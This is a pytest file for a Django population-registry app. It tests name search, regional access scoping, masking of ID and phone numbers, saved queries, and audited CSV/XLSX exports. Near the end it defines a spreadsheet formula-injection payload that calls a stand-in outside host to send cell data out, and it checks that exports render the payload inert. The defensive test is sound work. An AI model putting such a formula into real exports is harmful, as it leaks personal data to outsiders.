import csv
import io

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from pims.accounts import roles
from pims.accounts.roles import Role
from pims.audit.models import Action, AuditEntry
from pims.lib.errors import Invalid
from pims.registry.models import Marriage
from pims.search import errors, services
from pims.search.models import SavedQuery
from pims.testing.errors import refused
from pims.testing.fixtures import login, make_user

URL = "/search/"
WOMEN_QUERY = {"sex": "2", "marital": "married", "childbearing": "on", "contraception": "none", "status": "1"}


def listed(resp) -> list[int]:
    """Person ids of the result rows, in page order."""
    import re

    return [int(x) for x in re.findall(r'data-testid="result-row" data-person="(\d+)"', resp.content.decode())]


def test_fresh_page_shows_the_form_and_no_results(world, client_for):
    resp = client_for("operator").get(URL)
    body = resp.content.decode()
    assert resp.status_code == 200
    assert 'data-testid="search-form"' in body and 'data-testid="result-count"' not in body


def test_pinyin_initials_find_and_list_masked(world, client_for):
    resp = client_for("operator").get(URL, {"name": "zs"})
    body = resp.content.decode()
    assert set(listed(resp)) == {world["张三"].pk, world["曾三"].pk}
    assert "本辖区共 2 人符合条件" in body
    assert world["张三"].id_masked in body and world.ids["张三"] not in body
    assert "139****5678" in body and "13912345678" not in body


def test_citizen_id_search_posts_and_never_echoes_the_number(world, client_for):
    client = client_for("operator")
    number = world.ids["王芳"]
    resp = client.post(URL, {"citizen_id": number.lower()})
    assert resp.status_code == 200
    assert listed(resp) == [world["王芳"].pk]
    assert number not in resp.content.decode() and number.lower() not in resp.content.decode()
    # Not offered for saving or export: the criteria would carry the number's index.
    assert 'data-testid="save-query"' not in resp.content.decode()


def test_citizen_id_in_a_url_is_refused_and_not_echoed(world, client_for):
    number = world.ids["王芳"]
    resp = client_for("operator").get(URL, {"citizen_id": number})
    assert resp.status_code == 422
    assert number not in resp.content.decode()
    assert listed(resp) == []


def test_bad_citizen_id_message_does_not_echo(world, client_for):
    bad = world.ids["王芳"][:-1] + ("1" if world.ids["王芳"][-1] != "1" else "2")
    resp = client_for("operator").post(URL, {"citizen_id": bad})
    assert resp.status_code == 422
    assert "校验位错误" in resp.content.decode() and bad not in resp.content.decode()


def test_outsider_gets_no_result_no_count_and_no_page(world, client_for):
    client = client_for("outsider")
    township_a = ["张三", "李四", "曾三", "王芳", "单田芳", "张小明", "张小红"]
    for params in ({"name": "张三"}, {"name": "zs"}, {"name": "zengsan"}, {"status": "1"}, WOMEN_QUERY):
        resp = client.get(URL, params)
        body = resp.content.decode()
        assert not any(f">{n}<" in body for n in township_a), params
        assert not set(listed(resp)) & {world[n].pk for n in township_a}
    resp = client.post(URL, {"citizen_id": world.ids["张三"]})
    assert listed(resp) == [] and "本辖区共 0 人符合条件" in resp.content.decode()
    assert client.get(reverse("registry:person_detail", args=[world["张三"].pk])).status_code == 404
    # A region of township A is refused like a missing one.
    resp = client.get(URL, {"region": world["张三"].registered_code})
    assert resp.status_code == 422 and "大孤家子" not in resp.content.decode()


@pytest.mark.parametrize("role", ["auditor", "sysadmin"])
def test_roles_without_personal_data_get_404(world, client_for, role):
    client = client_for(role)
    assert client.get(URL).status_code == 404
    assert client.post(URL, {"citizen_id": world.ids["张三"]}).status_code == 404
    assert client.get(reverse("search:saved_list")).status_code == 404


def test_results_page_and_sort(world, client_for, monkeypatch):
    from pims.search import views

    monkeypatch.setattr(views, "PAGE_SIZE", 3)
    client = client_for("operator")
    first = client.get(URL, {"sort": "birth_date", "status": "1"})
    second = client.get(URL, {"sort": "birth_date", "status": "1", "page": "2"})
    assert listed(first) == [world[n].pk for n in ("单田芳", "曾三", "张三")]
    assert listed(second) == [world[n].pk for n in ("李四", "王芳", "张小明")]
    assert 'data-testid="next-page"' in first.content.decode()


def test_page_queries_do_not_grow_with_the_result(world, client_for, personas, regions):
    from pims.search.tests.conftest import member, save_household

    client = client_for("operator")

    def count():
        with CaptureQueriesContext(connection) as ctx:
            resp = client.get(URL, {"sex": "1"})
        return len(ctx.captured_queries), len(listed(resp))

    count()  # the process's copy of the parameter table is read once, on first use
    before, rows_before = count()
    for i, given in enumerate("甲乙丙"):
        save_household(
            personas["operator"],
            regions["village_a2"],
            f"02{i:02d}",
            [member(1, "周" + given, "1", "1960-01-01", "02", "10")],
        )
    after, rows_after = count()
    assert rows_after == rows_before + 3
    assert after == before


# --- the person page -------------------------------------------------------------


def test_person_page_links_household_spouse_parents_and_children(world, client_for):
    client = client_for("operator")
    body = client.get(reverse("registry:person_detail", args=[world["张三"].pk])).content.decode()
    spouse_url = reverse("registry:person_detail", args=[world["李四"].pk])
    assert f'href="{spouse_url}" data-testid="spouse-link"' in body
    assert reverse("registry:household_detail", args=[world["张三"].household_id]) in body
    for child in ("张小明", "张小红"):
        assert reverse("registry:person_detail", args=[world[child].pk]) in body
    child_body = client.get(reverse("registry:person_detail", args=[world["张小明"].pk])).content.decode()
    assert 'data-testid="parent-link"' in child_body and ">李四<" in child_body
    assert world.ids["张三"] not in body and world["张三"].id_masked in body
    assert "汉族" in body  # code names, not bare codes


def test_spouse_outside_scope_is_shown_without_name_or_link(world, client_for):
    import datetime as dt

    Marriage.objects.create(husband=world["单田芳"], wife=world["赵敏"], date=dt.date(2020, 1, 1))
    body = client_for("operator").get(reverse("registry:person_detail", args=[world["单田芳"].pk])).content.decode()
    assert "辖区外" in body and "赵敏" not in body
    assert reverse("registry:person_detail", args=[world["赵敏"].pk]) not in body


# --- saved queries ----------------------------------------------------------------


def test_save_list_rerun_and_delete_own_query(world, client_for, personas):
    client = client_for("operator")
    resp = client.post(reverse("search:saved_create") + "?name=zs&sex=1", {"name": "男性 zs"})
    assert resp.status_code == 302
    saved = SavedQuery.objects.get(owner=personas["operator"])
    assert saved.criteria == {"name": "zs", "sex": "1"}
    assert "男性 zs" in client.get(reverse("search:saved_list")).content.decode()
    rerun = client.get(reverse("search:saved_run", args=[saved.pk]), follow=True)
    assert set(listed(rerun)) == {world["张三"].pk, world["曾三"].pk}
    assert client.post(reverse("search:saved_delete", args=[saved.pk])).status_code == 302
    assert not SavedQuery.objects.exists()


def test_other_users_saved_queries_are_404(world, client_for, personas):
    saved = SavedQuery.objects.create(owner=personas["operator"], name="私人查询甲", criteria={"name": "zs"})
    for who in ("reviewer", "outsider", "county"):
        client = client_for(who)
        assert client.get(reverse("search:saved_run", args=[saved.pk])).status_code == 404
        assert client.post(reverse("search:saved_delete", args=[saved.pk])).status_code == 404
        assert "私人查询甲" not in client.get(reverse("search:saved_list")).content.decode()
    assert SavedQuery.objects.filter(pk=saved.pk).exists()


def test_saved_query_by_citizen_id_is_refused(world, personas):
    with refused(Invalid, errors.QUERY_BY_ID_NOT_SAVED):
        services.saved_query_save(actor=personas["operator"], name="按号码", criteria={"id_index": "abc"})
    assert not SavedQuery.objects.exists()


def test_saved_query_reruns_within_the_current_scope(world, client_for, personas, regions):
    # A forged saved query naming township B's region finds nobody of it.
    saved = SavedQuery.objects.create(
        owner=personas["operator"], name="越权", criteria={"region": regions["village_b1"].code}
    )
    resp = client_for("operator").get(reverse("search:saved_run", args=[saved.pk]), follow=True)
    assert resp.status_code == 422 and listed(resp) == []


# --- export -------------------------------------------------------------------------


def export(client, params, fmt="csv", **post):
    from urllib.parse import urlencode

    return client.post(reverse("search:export") + "?" + urlencode(params), {"format": fmt, **post})


def csv_rows(resp) -> list[list[str]]:
    body = b"".join(resp.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_csv_export_holds_exactly_the_listed_persons_masked(world, client_for):
    client = client_for("operator")
    page = client.get(URL, {"status": "1"})
    resp = export(client, {"status": "1"})
    assert resp.status_code == 200 and resp["Content-Disposition"].startswith("attachment")
    header, *rows = csv_rows(resp)
    assert header[:2] == ["人员编号", "姓名"]
    assert [int(r[0]) for r in rows] == listed(page)
    by_name = {r[1]: r for r in rows}
    assert by_name["张三"][5] == world["张三"].id_masked
    assert by_name["曾三"][6] == "139****5678"


def test_xlsx_export_matches_the_page(world, client_for):
    client = client_for("operator")
    resp = export(client, WOMEN_QUERY, fmt="xlsx")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.content)).active
    rows = list(ws.iter_rows(values_only=True))
    assert [r[1] for r in rows[1:]] == ["王芳"]
    assert rows[1][5] == world["王芳"].id_masked


def test_full_values_only_for_roles_that_may_unmask(world, client_for, regions):
    full = csv_rows(export(client_for("operator"), {"name": "zs"}, full_values="1"))
    assert {r[5] for r in full[1:]} == {world.ids["张三"], world.ids["曾三"]}
    assert "13912345678" in {r[6] for r in full[1:]}
    city = make_user("city_viewer", Role.CITY_VIEWER, regions["city"])
    client = login(Client(), city)
    masked = csv_rows(export(client, {"name": "zs"}, full_values="1"))
    # The city sees both townships; every number stays masked.
    assert {r[5] for r in masked[1:]} == {world[n].id_masked for n in ("张三", "曾三", "张三丰")}
    entry = AuditEntry.objects.filter(action=Action.EXPORT, actor=city).get()
    assert entry.detail["masked"] is True


def test_every_export_is_audited_without_personal_values(world, client_for, personas):
    client = client_for("operator")
    csv_rows(export(client, {"name": "zhangsan", "sex": "1"}))
    export(client, WOMEN_QUERY, fmt="xlsx")
    entries = list(AuditEntry.objects.filter(action=Action.EXPORT).order_by("seq"))
    assert len(entries) == 2
    first, second = entries
    assert first.actor == personas["operator"]
    assert first.detail["rows"] == 1 and first.detail["format"] == "csv" and first.detail["masked"] is True
    assert first.detail["criteria"] == {"name": "***", "sex": "1"}
    assert "zhangsan" not in str(first.detail) and "张三" not in str(first.detail)
    assert second.detail["rows"] == 1 and second.detail["criteria"]["contraception"] == "none"


def test_roles_without_export_get_404(world, client_for):
    assert export(client_for("clerk"), {"status": "1"}).status_code == 404
    assert export(client_for("auditor"), {"status": "1"}).status_code == 404
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


def test_export_over_the_role_limit_is_refused_not_cut(world, client_for, monkeypatch):
    monkeypatch.setitem(roles.EXPORT_ROW_LIMITS, Role.TOWNSHIP_OPERATOR, 3)
    resp = export(client_for("operator"), {"status": "1"})
    assert resp.status_code == 302
    follow = client_for("operator").get(resp["Location"])
    assert follow.status_code == 200
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


def test_export_is_post_only(world, client_for):
    assert client_for("operator").get(reverse("search:export") + "?status=1").status_code == 405


def test_outsider_export_holds_nobody_of_township_a(world, client_for):
    rows = csv_rows(export(client_for("outsider"), {"name": "zs"}))
    assert [r[1] for r in rows[1:]] == ["张三丰"]


def test_count_stops_at_the_cap_and_says_there_are_more(world, client_for, monkeypatch):
    from pims.search import selectors

    client = client_for("operator")
    total = len(listed(client.get(URL, {"status": "1"})))
    assert total > 2
    monkeypatch.setattr(selectors, "COUNT_CAP", 2)
    resp = client.get(URL, {"status": "1"})
    body = resp.content.decode()
    assert "本辖区超过 2 人符合条件" in body and f"共 {total} 人" not in body
    assert len(listed(resp)) == 2  # the pages stop at the cap
    monkeypatch.setattr(selectors, "COUNT_CAP", total)
    resp = client.get(URL, {"status": "1"})
    assert f"本辖区共 {total} 人符合条件" in resp.content.decode()


EVIL = '=HYPERLINK("http://outside.example/?"&F2,"点击")'


def test_exports_never_carry_a_formula(world, client_for, regions):
    """A region name (data from a file) that is a formula stays inert text
    in both formats (issue 14 item 4)."""
    from pims.regions.models import Region

    Region.objects.filter(pk=regions["village_a1"].pk).update(name=EVIL)
    client = client_for("operator")
    rows = csv_rows(export(client, {"status": "1"}))
    places = {r[11] for r in rows[1:]}
    assert "'" + EVIL in places and EVIL not in places
    ws = load_workbook(io.BytesIO(export(client, {"status": "1"}, fmt="xlsx").content)).active
    cells = [row[11] for row in ws.iter_rows(min_row=2) if row[11].value == EVIL]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
